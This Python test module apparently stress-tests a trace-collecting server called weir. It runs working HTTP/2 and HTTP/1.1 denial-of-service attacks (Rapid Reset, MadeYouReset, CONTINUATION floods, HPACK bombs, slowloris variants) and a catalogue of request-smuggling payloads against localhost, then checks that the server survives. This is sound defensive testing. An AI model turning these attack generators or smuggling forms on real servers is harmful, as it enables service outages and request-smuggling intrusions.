"""The step `hostile`: a peer that attacks a port of weir, in a process of its own, while other clients must be served.

By hand: hostile.py ATTACK PORT SECONDS CONNECTIONS http|grpc. It attacks that long, prints what it saw as JSON, and holds its connections until stdin ends.
An attack is a generator: what it yields is written (bytes), or waited for (seconds), over and over, on each of its connections.
"""
import collections
import json
import re
import resource
import selectors
import socket
import struct
import subprocess
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM",
          "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]


# --- frames ----------------------------------------------------------------------------------------

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(prefix, bits, value):
    """An HPACK integer (RFC 7541 section 5.1)."""
    top = (1 << bits) - 1
    if value < top:
        return bytes([prefix | value])
    out, value = [prefix | top], value - top
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes([*out, value])


def field(name, value, kind=0):
    return bytes([kind]) + number(0, 7, len(name)) + name + number(0, 7, len(value)) + value


def request(path, content_type):
    """:method POST, :scheme http, and what the port wants to see."""
    return b"\x83\x86" + field(b":path", path) + field(b":authority", b"h") + field(b"content-type", content_type) + field(b"te", b"trailers")


STATUS = re.compile(rb"HTTP/1\.1 (\d{3}) ")
HEADS = {"http": request(b"/v1/traces", b"application/x-protobuf"),
         "grpc": request(b"/opentelemetry.proto.collector.trace.v1.TraceService/Export", b"application/grpc")}
EMPTY_MESSAGE = b"\0\0\0\0\0"


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hello(*pairs):
    return PREFACE + settings(*pairs)


def u32(n):
    return struct.pack(">I", n)


def many(make, streams):
    return b"".join(make(s) for s in streams)


def streams():
    """Ids of requests, 100 at a time."""
    for first in range(1, 2**31 - 200, 200):
        yield range(first, first + 200, 2)


# --- attacks on HTTP/2 -------------------------------------------------------------------------------

def rapid_reset(head):
    """CVE-2023-44487."""
    yield hello()
    for ids in streams():
        yield many(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(RST_STREAM, 0, s, u32(8)), ids)


def made_you_reset(head):
    """CVE-2025-8671: each request is followed by what makes the server reset it."""
    provoke = [lambda s: frame(WINDOW_UPDATE, 0, s, u32(2**31 - 1)), lambda s: frame(DATA, 0, s, b"12345678")]
    yield hello()
    for ids in streams():  # a body that is longer than declared, a window that is too large
        yield many(lambda s: frame(HEADERS, END_HEADERS, s, head + field(b"content-length", b"7")) + provoke[s // 2 % len(provoke)](s), ids)


def continuation_flood(head):
    yield hello() + frame(HEADERS, END_STREAM, 1, head)
    while True:
        yield frame(CONTINUATION, 0, 1, field(b"x-flood", b"y" * 4000) * 4)


def continuation_empty(head):
    yield hello() + frame(HEADERS, END_STREAM, 1, head)
    while True:
        yield frame(CONTINUATION, 0, 1) * 1000


def ping_flood(head):
    yield hello()
    while True:
        yield frame(PING, 0, 0, b"12345678") * 500


def settings_flood(head):
    yield hello() + many(lambda s: frame(HEADERS, END_HEADERS, s, head), range(1, 200, 2))
    while True:  # each changes the windows of the streams that are open
        yield (settings((4, 0)) + settings((4, 65535))) * 200


def settings_large(head):
    yield hello()
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 4096) * 2700)


def empty_data(head):
    yield hello() + frame(HEADERS, END_HEADERS, 1, head)
    while True:
        yield frame(DATA, 0, 1) * 500


def padding_only(head):
    yield hello() + frame(HEADERS, END_HEADERS, 1, head)
    while True:
        yield frame(DATA, PADDED, 1, b"\0") * 500


def window_updates(head):
    """Answers that leave byte by byte, and updates that allow nothing new."""
    yield hello((4, 0)) + many(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, head), range(1, 200, 2))
    while True:
        yield many(lambda s: frame(WINDOW_UPDATE, 0, s, u32(1)), range(1, 200, 2))


def window_zero(head):
    yield hello() + frame(WINDOW_UPDATE, 0, 0, u32(0))
    while True:
        yield 0.05


def window_overflow(head):
    yield hello() + frame(WINDOW_UPDATE, 0, 0, u32(2**31 - 1)) * 2
    while True:
        yield 0.05


def windows_shut(head):
    """Requests whose answers may never leave; more of them than may be under way."""
    yield hello((4, 0))
    for ids in streams():
        yield many(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, END_STREAM, s, EMPTY_MESSAGE), ids)
        yield 0.05


def hpack_updates(head):
    yield hello()
    for ids in streams():  # as many as RFC 7541 section 4.2 allows at a block's beginning; then far too many; then a size that was never allowed
        yield many(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, b"\x20\x3f\xe1\x1f" + head), ids)
        yield frame(HEADERS, END_HEADERS | END_STREAM, ids[-1] + 2, b"\x20\x3f\xe1\x1f" * 4000 + head)
        yield frame(HEADERS, END_HEADERS | END_STREAM, ids[-1] + 4, b"\x3f\xff\xff\xff\x7f" + head)


def hpack_bomb(head):
    """A table entry of 4 KB, then 16,000 references to it in each request: 64 MB of headers from 16 KB."""
    yield hello() + frame(HEADERS, END_HEADERS | END_STREAM, 1, head + field(b"x-bomb", b"y" * 4000, 0x40))
    for s in range(3, 2**31, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, s, head + b"\xbe" * 16000)


def hpack_crumbs(head):
    """As many headers as fit: each has an empty value, and costs 32 bytes of account."""
    yield hello()
    for s in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, s, head + field(b"x", b"") * 3000)


def priority_flood(head):
    yield hello()
    for ids in streams():
        yield many(lambda s: frame(PRIORITY, 0, s, u32(s + 2 if s % 4 == 1 else max(0, s - 2)) + b"\xff"), ids)


def unknown_frames(head):
    yield hello()
    while True:
        yield frame(200, 255, 1, b"x" * 100) * 200


def never_ended(head):
    yield hello() + frame(HEADERS, END_STREAM, 1, head)
    while True:
        yield 0.1


def slow_headers2(head):
    yield hello() + frame(HEADERS, END_STREAM, 1, head[:1])
    for byte in head[1:]:
        yield frame(CONTINUATION, 0, 1, bytes([byte]))
        yield 0.1


def slow_body2(head):
    yield hello() + frame(HEADERS, END_HEADERS, 1, head)
    while True:
        yield frame(DATA, 0, 1, b"x")
        yield 0.1


def reads_nothing2(head):
    """Requests without end, and not one answer is read."""
    yield hello()
    for ids in streams():
        yield many(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, head), ids)


# --- attacks on HTTP/1.1, and on connections ------------------------------------------------------------

POST = b"POST /v1/traces HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-protobuf\r\n"


def slow_headers1(head):
    for byte in POST * 1000:
        yield bytes([byte])
        yield 0.1


def slow_body1(head):
    yield POST + b"Content-Length: 100000\r\n\r\n"
    while True:
        yield b"x"
        yield 0.1


def slow_chunks1(head):
    """Chunk extensions are no body: they do not count as progress."""
    yield POST + b"Transfer-Encoding: chunked\r\n\r\n1;x="
    while True:
        yield b"y"
        yield 0.05


def chunk_extensions(head):
    yield POST + b"Transfer-Encoding: chunked\r\n\r\n1;x="
    while True:
        yield b"y" * 60000


def chunk_crumbs(head):
    yield POST + b"Transfer-Encoding: chunked\r\n\r\n"
    while True:
        yield b"1;extension=" + b"z" * 50 + b"\r\nx\r\n"


def reads_nothing1(head):
    while True:
        yield b"GET /nothing HTTP/1.1\r\nHost: h\r\n\r\n" * 500


def idle(head):
    """Some before the first byte, some in the preface, some after a request."""
    idle.count = getattr(idle, "count", 0) + 1
    first = [b"", PREFACE[:10], hello(), hello() + frame(HEADERS, END_HEADERS | END_STREAM, 1, head), b"GET / HTTP/1.1\r\nHost: h\r\n\r\n"][idle.count % 5]
    if first:
        yield first
    while True:
        yield 1


def half_open(head):
    half_open.count = getattr(half_open, "count", 0) + 1
    whole = POST + b"Content-Length: 5000\r\n\r\n" + b"x" * 4000
    yield [whole[:5], whole[:60], whole, hello() + frame(HEADERS, 0, 1, head), hello() + frame(HEADERS, END_HEADERS, 1, head) + frame(DATA, 0, 1, b"x" * 4000)][
        half_open.count % 5]
    while True:
        yield 1


ATTACKS = [rapid_reset, made_you_reset, continuation_flood, continuation_empty, ping_flood, settings_flood, settings_large, empty_data, padding_only, window_updates,
           window_zero, window_overflow, windows_shut, hpack_updates, hpack_bomb, hpack_crumbs, priority_flood, unknown_frames, never_ended, slow_headers2,
           slow_body2, reads_nothing2, slow_headers1, slow_body1, slow_chunks1, chunk_extensions, chunk_crumbs, reads_nothing1, idle, half_open]


# --- request smuggling: forms of a request that two servers could understand differently ----------------------------

def smuggled(*lines, body=b"0\r\n\r\n"):
    return POST + b"".join(line + b"\r\n" for line in lines) + b"\r\n" + body


CHUNKED = b"Transfer-Encoding: chunked"
FORMS = {
    "CL.TE": smuggled(b"Content-Length: 5", CHUNKED),
    "TE.CL": smuggled(CHUNKED, b"Content-Length: 5"),
    "TE and an empty CL": smuggled(CHUNKED, b"Content-Length:"),
    "TE twice": smuggled(CHUNKED, b"Transfer-Encoding: identity"),
    "TE twice, chunked last": smuggled(b"Transfer-Encoding: x", CHUNKED, b"Content-Length: 5"),
    "TE unknown": smuggled(b"Transfer-Encoding: xchunked"),
    "TE identity": smuggled(b"Transfer-Encoding: identity"),
    "TE chunked, identity": smuggled(b"Transfer-Encoding: chunked, identity"),
    "TE quoted": smuggled(b'Transfer-Encoding: "chunked"'),
    "TE with VT": smuggled(b"Transfer-Encoding: \x0bchunked"),
    "TE with NUL": smuggled(b"Transfer-Encoding: chunked\0"),
    "TE, blank before the colon": smuggled(b"Transfer-Encoding : chunked"),
    "TE, tab before the colon": smuggled(b"Transfer-Encoding\t: chunked"),
    "TE behind a bare LF": smuggled(b"X: y\nTransfer-Encoding: chunked"),
    "TE behind a bare CR": smuggled(b"X: y\rTransfer-Encoding: chunked"),
    "TE folded": smuggled(b"Transfer-Encoding:\r\n chunked"),
    "TE as a fold": smuggled(b"X: y\r\n Transfer-Encoding: chunked"),
    "TE in HTTP/1.0": smuggled(CHUNKED).replace(b"HTTP/1.1", b"HTTP/1.0"),
    "CL twice, different": smuggled(b"Content-Length: 5", b"Content-Length: 0"),
    "CL twice, the same": smuggled(b"Content-Length: 5", b"Content-Length: 5"),
    "CL as a list": smuggled(b"Content-Length: 5, 5"),
    "CL with a plus": smuggled(b"Content-Length: +5"),
    "CL with a minus": smuggled(b"Content-Length: -5"),
    "CL with a blank inside": smuggled(b"Content-Length: 5 5"),
    "CL hexadecimal": smuggled(b"Content-Length: 0x5"),
    "CL with a point": smuggled(b"Content-Length: 5.0"),
    "CL empty": smuggled(b"Content-Length:"),
    "CL over 64 bits": smuggled(b"Content-Length: 18446744073709551621"),
    "CL, blank before the colon": smuggled(b"Content-Length : 5"),
    "CL with NUL": smuggled(b"Content-Length: 5\0"),
    "CL folded": smuggled(b"Content-Length:\r\n 5"),
    "all lines end in LF": smuggled(b"Content-Length: 5").replace(b"\r\n", b"\n"),
    "header without a colon": smuggled(b"Content-Length: 5", b"nonsense"),
    "header without a name": smuggled(b"Content-Length: 5", b": x"),
    "NUL in a name": smuggled(b"Content-Length: 5", b"X\0: y"),
    "NUL in a value": smuggled(b"Content-Length: 5", b"X: \0"),
    "two hosts": smuggled(b"Content-Length: 5", b"Host: other"),
    "no host": smuggled(b"Content-Length: 5").replace(b"Host", b"Most"),
    "tab in the request line": smuggled(b"Content-Length: 5").replace(b"POST ", b"POST\t"),
    "NUL in the target": smuggled(b"Content-Length: 5").replace(b"/v1", b"/\0v1"),
    "HTTP/0.9": b"GET /\r\n\r\n",
    "HTTP/1.2": smuggled(b"Content-Length: 5").replace(b"HTTP/1.1", b"HTTP/1.2"),
    "HTTP/2.0": smuggled(b"Content-Length: 5").replace(b"HTTP/1.1", b"HTTP/2.0"),
    "chunk size with 0x": smuggled(CHUNKED, body=b"0x0\r\n\r\n"),
    "chunk size with a sign": smuggled(CHUNKED, body=b"-0\r\n\r\n"),
    "chunk size behind a blank": smuggled(CHUNKED, body=b" 0\r\n\r\n"),
    "chunk size before a blank": smuggled(CHUNKED, body=b"0 \r\n\r\n"),
    "chunk size over 64 bits": smuggled(CHUNKED, body=b"10000000000000000\r\n\r\n"),
    "chunk size ends in LF": smuggled(CHUNKED, body=b"0\n\n"),
    "chunk extension with a bare LF": smuggled(CHUNKED, body=b"1;x\ny\r\n0\r\n\r\n"),
    "chunk extension with NUL": smuggled(CHUNKED, body=b"0;\0\r\n\r\n"),
    "chunk longer than its size": smuggled(CHUNKED, body=b"1\r\nxx\r\n0\r\n\r\n"),
    "chunk without its CRLF": smuggled(CHUNKED, body=b"1\r\nx0\r\n\r\n"),
    "trailer that is no header": smuggled(CHUNKED, body=b"0\r\nnonsense\r\n\r\n"),
}
BEHIND = b"GET /behind HTTP/1.1\r\nHost: h\r\n\r\n"


def answers_to(port, data, seconds=3):
    """Status codes until the server closes; behind them `open` when it does not."""
    got = b""
    with socket.create_connection(("127.0.0.1", port), seconds) as s:
        s.sendall(data)
        try:
            while piece := s.recv(65536):
                got += piece
        except TimeoutError:
            return [*STATUS.findall(got), b"open"]
        except OSError:
            pass
    return STATUS.findall(got)


def smuggle(port):
    """None of the forms may be served, and none may let what stands behind it be taken for a request. Returns complaints."""
    wrong = []
    for name, data in FORMS.items():
        got = answers_to(port, data + BEHIND)
        if len(got) != 1 or got[0] not in (b"400", b"501", b"505"):
            wrong.append(f"{name}: {got}")
    return wrong


# --- the attacker ------------------------------------------------------------------------------------------

class Peer:
    def __init__(self, attack, port, head):
        self.steps, self.out, self.wake, self.closed, self.got = attack(head), b"", 0, None, b""
        self.reads = not attack.__name__.startswith("reads_nothing")
        self.http1, self.codes, self.answers, self.resets = None, [], collections.Counter(), 0
        self.socket = socket.create_connection(("127.0.0.1", port), 5)
        self.socket.setblocking(False)

    def write(self, now):
        try:
            while self.wake <= now:
                if not self.out:
                    step = next(self.steps, 1)
                    if not isinstance(step, bytes):
                        self.wake = now + step
                        return
                    self.out = step
                sent = self.socket.send(self.out)
                self.out = self.out[sent:]
                if self.out:
                    return
                if time.monotonic() > now + 0.02:  # others have their turn
                    return
        except BlockingIOError:
            pass
        except OSError:
            self.ended()

    def read(self):
        try:
            while data := self.socket.recv(262144):
                self.got += data
                self.parse()
            self.ended()
        except BlockingIOError:
            pass
        except OSError:
            self.ended()

    def ended(self):
        self.closed = self.closed or time.monotonic()

    def parse(self):
        if self.http1 is None and len(self.got) >= 5:
            self.http1 = self.got.startswith(b"HTTP/")
        if self.http1:
            self.answers.update(status.decode() for status in STATUS.findall(self.got))
            self.got = self.got[-12:]
            return
        while len(self.got) >= 9 and len(self.got) >= 9 + int.from_bytes(self.got[:3], "big"):
            length, kind = int.from_bytes(self.got[:3], "big"), self.got[3]
            if kind == GOAWAY:
                self.codes.append(ERRORS[int.from_bytes(self.got[13:17], "big")])
            self.resets += kind == RST_STREAM
            self.got = self.got[9 + length:]


def attack_port(name, port, seconds, connections, kind):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = next(a for a in ATTACKS if a.__name__ == name)
    peers = [Peer(attack, port, HEADS[kind]) for _ in range(connections)]
    began = time.monotonic()
    while (now := time.monotonic()) < began + seconds:
        with selectors.DefaultSelector() as ready:
            for p in peers:
                if not p.closed:
                    wants = (selectors.EVENT_READ if p.reads else 0) | (selectors.EVENT_WRITE if p.wake <= now else 0)
                    if wants:
                        ready.register(p.socket, wants, p)
            if not ready.get_map():
                time.sleep(0.05)
                continue
            for key, events in ready.select(0.05):
                if events & selectors.EVENT_WRITE:
                    key.data.write(now)
                if events & selectors.EVENT_READ:
                    key.data.read()
        if all(p.closed for p in peers):
            break
    for p in peers:
        if not p.reads and not p.closed:
            p.read()
    codes, answers = collections.Counter(c for p in peers for c in p.codes), collections.Counter()
    for p in peers:
        answers.update(p.answers)
    print(json.dumps({"closed": sum(p.closed is not None for p in peers), "last_closed": max((p.closed - began for p in peers if p.closed), default=None),
                      "codes": codes, "answers": answers, "resets": sum(p.resets for p in peers)}), flush=True)
    sys.stdin.read()


# --- the step ---------------------------------------------------------------------------------------------

MEMORY_MIB, SERVED_WITHIN, CPU_AFTER = 32, 1.0, 0.25


class Others:
    """Clients that must be served meanwhile: with a connection for each request, or (`served_by: one connection`) with those that they had before."""

    def __init__(self, scenario, spec):
        import drive  # not needed by the attacker, and slow to load
        self.drive, self.scenario, self.within, self.keep = drive, scenario, spec.get("within", SERVED_WITHIN), "served_by" in spec
        self.make = [lambda: drive.HttpClient(scenario.port("http")), lambda: drive.GrpcClient(scenario.port("grpc"))]
        self.kept = [make() for make in self.make] if self.keep else []

    def serve(self):
        import payload
        for client in self.kept or [make() for make in self.make]:
            self.drive.send_one(self.scenario, {"each_within": self.within}, client, "traces", payload.message("traces", 1, 0, "others"), None)
            if not self.keep:
                client.close()


def run(scenario, spec):
    """{smuggling: true}, or {attack, port: http | grpc, seconds, connections, closed: how many weir must have ended, code: of GOAWAY, answers: {status: n}, within: seconds}."""
    from check import compare
    from weir_process import Failure
    weir, port = scenario.weir(""), spec.get("port", "grpc")
    if spec.get("smuggling"):
        if wrong := smuggle(scenario.port("http")):
            raise Failure("request smuggling: expected 400 and the end of the connection\n    " + "\n    ".join(wrong))
        return
    others = Others(scenario, spec)
    others.serve()
    weir.forget_memory_peak()
    before = weir.memory_mib()
    connections = spec.get("connections", 1)
    seconds = spec.get("seconds", 15 if spec.get("closed") == connections else 2)  # it is over when all are closed
    command = [sys.executable, __file__, spec["attack"], str(scenario.port(port)), str(seconds * min(2, scenario.slow)), str(connections), port]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as attacker:
        selector = selectors.DefaultSelector()
        selector.register(attacker.stdout, selectors.EVENT_READ)
        while not selector.select(0.1):
            others.serve()
        line = attacker.stdout.readline()
        if not line:
            raise Failure(f"the attacker died: {attacker.wait()}")
        saw = json.loads(line)
        for _ in range(6):  # its connections are open, and silent; what they sent before may still be worked off
            used, began = weir.cpu_seconds(), time.monotonic()
            time.sleep(0.5)
            share = (weir.cpu_seconds() - used) / (time.monotonic() - began)
            if share <= CPU_AFTER:
                break
        grown = weir.memory_peak_mib() - before
        attacker.stdin.close()
    told = f"\n    the attacker saw {saw}; memory grew by {grown:.1f} MiB; afterwards {share:.0%} CPU"
    if not weir.running():
        raise Failure(f"weir died{told}\n{weir.stderr()[-3000:]}")
    if scenario.slow == 1 and grown >= MEMORY_MIB:
        raise Failure(f"memory grew{told}")
    if share > CPU_AFTER:
        raise Failure(f"weir spins{told}")
    if "closed" in spec and not compare(saw["closed"], spec["closed"]):
        raise Failure(f"expected {spec['closed']} connections ended{told}")
    if "code" in spec and spec["code"] not in saw["codes"]:
        raise Failure(f"expected GOAWAY {spec['code']}{told}")
    for status, wanted in spec.get("answers", {}).items():
        if not compare(saw["answers"].get(str(status), 0), wanted):
            raise Failure(f"answers {status}: expected {wanted}{told}")
    if scenario.verbose:
        print(f"{spec['attack']}: {told.strip()}")


if __name__ == "__main__":
    attack_port(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), sys.argv[5])
